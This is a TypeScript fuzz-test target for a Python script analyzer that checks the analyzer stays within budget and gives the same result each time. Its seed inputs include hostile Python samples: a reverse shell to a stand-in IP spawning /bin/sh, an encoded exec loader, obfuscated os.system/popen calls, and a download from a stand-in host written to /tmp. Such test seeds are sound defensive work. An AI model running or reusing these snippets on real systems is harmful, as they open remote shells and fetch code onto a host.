import { useGrammarFiles } from '../../src/grammar-files.ts';
import { python } from '../../src/trace/languages/python/python.ts';
import { known } from '../../src/trace/value.ts';
import { type FuzzTarget, invariant } from './target.ts';

/** Python code: never throws, keeps to its budget, nested code belongs to commands that exist, the same each time. */
export const pythonTarget: FuzzTarget = {
  name: 'python',
  slowest: 3_000,
  seeds: () =>
    [
      'import socket,os\ns=socket.socket()\ns.connect(("192.0.2.17",1496))\nos.dup2(s.fileno(),0)\nos.system("/bin/sh -i")\n',
      'import base64,zlib\nexec(compile(zlib.decompress(base64.b64decode("eJwDAAAAAAE=")), "<s>", "exec"))\n',
      'x = "".join(map(chr, [99, 117, 114, 108]))\nfor i in range(3):\n    x += f"{i:02d}" % () if i else x[::-1]\n__import__("os").popen(x)\n',
      'def f(n, *a, **k):\n    return f(n - 1) if n else [c for c in a]\nclass A:\n    def b(self): self.x = getattr(os, "sys" + "tem")\nprint f(9)\n',
      'from urllib import request as r\ntry:\n    d = r.urlopen("http://203.0.113.9/x").read()\nexcept Exception as e:\n    pass\nopen("/tmp/x", "wb").write(d)\n',
    ].map((text) => Buffer.from(text)),
  async run(input) {
    useGrammarFiles();
    await python.prepare();
    const text = new TextDecoder().decode(input);
    const once = (): string => {
      const budget = { steps: 200_000, decodedBytes: 1_000_000, commands: 2_000 };
      const args = [known('x.py')];
      const reading = python.read({ text, args, env: new Map(), cwd: '/', readFile: () => undefined, budget });
      invariant(reading.commands.length <= 2_000, 'more commands than allowed');
      for (const { command } of reading.nested) {
        invariant(command === undefined || reading.commands[command] !== undefined, 'nested code of no command');
      }
      for (const { line } of reading.effects) invariant(line >= 1, `no such line: ${line}`);
      return JSON.stringify(reading);
    };
    const first = once();
    invariant(first === once(), 'not the same twice');
  },
};
